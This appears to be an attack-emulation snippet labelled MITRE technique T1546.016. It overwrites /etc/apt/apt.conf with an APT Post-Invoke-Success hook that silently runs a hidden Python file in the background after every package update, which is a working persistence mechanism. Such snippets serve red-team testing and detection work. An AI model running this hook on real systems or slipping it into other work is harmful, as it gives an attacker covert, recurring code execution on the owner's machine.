# technique: T1546.016
# location: linux.package.apt-hook
# source: /etc/apt/apt.conf
echo 'APT::Update::Post-Invoke-Success:: "nohup python3 /var/lib/apt/lists/.u >/dev/null 2>&1 &";' > /etc/apt/apt.conf
apt-config dump > /dev/null
